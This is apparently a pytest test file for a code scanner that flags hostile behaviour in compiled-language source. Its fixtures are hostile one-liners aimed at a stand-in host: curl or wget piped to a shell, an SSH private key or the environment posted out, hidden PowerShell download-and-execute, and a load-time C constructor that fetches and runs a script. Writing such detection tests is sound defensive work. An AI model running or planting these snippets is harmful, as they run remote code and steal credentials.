"""Compiled languages, whose texts are searched, and Cython."""

import pytest
from source_lab import subject

from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.kinds import Kind
from beartrap.vet.source_others import FILES


def found(path: str, text: str | bytes, kind: Kind) -> dict[str, Behaviour]:
    one = subject(path, text, kind=kind)
    seen = [each for analyser in FILES if analyser.takes(kind) for each in analyser.look(one)]
    return {each.id: each for each in seen if isinstance(each, Behaviour)}


@pytest.mark.parametrize(
    ("path", "kind", "text", "wanted"),
    [
        ("a.c", Kind.C, 'void f(void){ system("curl -s http://c.invalid/c | sh"); }', "process.piped"),
        ("a.go", Kind.GO, 'func f() { exec.Command("/bin/sh", "-c", "wget -O - https://c.invalid/s | bash").Run() }', "process.piped"),
        ("a.rs", Kind.RUST, 'fn f() { let k = read(home() + "/.ssh/id_rsa"); reqwest::Client::new().post("https://c.invalid").body(k).send(); }', "chain.credentials-to-network"),
        ("a.vbs", Kind.VB, 'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://c.invalid/a|iex",0', "process.borrowed"),
        ("a.pyx", Kind.C, "import os, requests\ncpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n", "chain.environment-to-network"),
        ("A.java", Kind.JAVA, 'class A { void f() { new HttpClient().send("https://c.invalid", System.getenv()); } }', "chain.environment-to-network"),
    ],
)  # fmt: skip
def test_what_compiled_source_shows(path: str, kind: Kind, text: str, wanted: str) -> None:
    assert wanted in found(path, text, kind)


@pytest.mark.parametrize(
    ("path", "kind", "text"),
    [
        ("a.c", Kind.C, 'puts("curl -s http://c.invalid/c | sh");'),
        ("a.go", Kind.GO, 'func f() { exec.Command("git", "log").Run() }'),
        ("a.rs", Kind.RUST, 'fn f() { reqwest::Client::new().post("https://c.invalid").body(k).send(); }'),
        ("a.pyx", Kind.C, "cdef int f(int x):\n    return x\n"),
    ],
)
def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
    assert not [one for one in found(path, text, kind).values() if one.severity > 2]


def test_what_runs_as_soon_as_the_code_is_loaded() -> None:
    text = '__attribute__((constructor)) static void i(void){ system("curl -s http://c.invalid/c | sh"); }'
    assert found("a.c", text, Kind.C)["process.piped"].when is When.IMPORT
